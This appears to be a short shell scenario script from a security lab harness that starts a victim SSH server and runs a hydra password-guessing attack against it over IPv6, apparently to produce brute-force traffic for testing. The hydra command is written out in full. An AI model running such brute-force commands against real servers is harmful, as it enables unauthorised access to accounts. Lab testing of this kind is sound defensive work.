# SPDX-License-Identifier: MIT
# label: bruteforce-ssh
# source: lab-hydra
# needs: hydra sshd sshpass ssh
# seconds: 60
# Guessing that succeeds, over IPv6.
. $lab/victims.sh

servers() {
	victim_ssh e 22
	words_up "$(pick 15 40)" yes
}

scenario() {
	cd "$work" || return
	_tasks=$(choose 2 4)
	setting options "-6 -t $_tasks"
	attack w e tcp 22 -- timeout 50 hydra -I -6 -f -t "$_tasks" -l lab -P "$work/words" \
		"$(addr6 e)" ssh
}
